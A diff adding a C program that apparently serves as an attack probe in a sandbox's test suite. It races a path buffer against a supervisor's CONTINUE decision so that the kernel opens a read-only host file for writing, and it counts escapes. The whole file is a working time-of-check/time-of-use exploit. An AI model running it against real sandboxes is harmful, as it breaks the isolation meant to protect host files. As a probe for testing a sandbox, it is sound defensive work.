@@ -1,0 +1,63 @@
+/* The re-read of CONTINUE: a write-open the manager lets the kernel do, raced to a magic
+ * link of a host file.
+ *
+ * continue_race TRIES SECONDS KERNEL_PATH
+ *
+ * fd 0 is a host file (read-only). A thread flips a path buffer between KERNEL_PATH, whose
+ * write-open the kernel serves (a device node, a procfs file), and /proc/self/fd/0, while
+ * the main thread opens the buffer for writing. The manager decides on the first; the
+ * kernel, re-reading the memory on CONTINUE, may then open the second. Counters:
+ * "escaped" (an fd open for writing on the host file), "continued" (KERNEL_PATH opened),
+ * "refused".
+ */
+#include "attack.h"
+
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+static char buffer[64];
+static const char *first, *second = "/proc/self/fd/0";
+static atomic_int stop;
+
+static void *flip(void *unused) {
+    (void)unused;
+    while (!atomic_load(&stop)) {
+        strcpy(buffer, first);
+        strcpy(buffer, second);
+    }
+    return NULL;
+}
+
+int main(int argc, char **argv) {
+    attack_begin(argc, argv);
+    if (argc < 4) return 2;
+    first = argv[3];
+    strcpy(buffer, first);
+    struct stat target;
+    if (fstat(0, &target) < 0 || !S_ISREG(target.st_mode)) return 3;
+    pthread_t thread;
+    pthread_create(&thread, NULL, flip, NULL);
+    long i, escaped = 0, continued = 0, refused = 0;
+    for (i = 0; attack_more(i); i++) {
+        int fd = open(buffer, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
+        if (fd < 0) {
+            refused++;
+            continue;
+        }
+        struct stat st;
+        if (fstat(fd, &st) == 0 && st.st_dev == target.st_dev && st.st_ino == target.st_ino)
+            escaped++;
+        else
+            continued++;
+        close(fd);
+    }
+    atomic_store(&stop, 1);
+    pthread_join(thread, NULL);
+    printf("{\"tries\": %ld, \"escaped\": %ld, \"continued\": %ld, \"refused\": %ld}\n", i, escaped, continued,
+           refused);
+    return 0;
+}
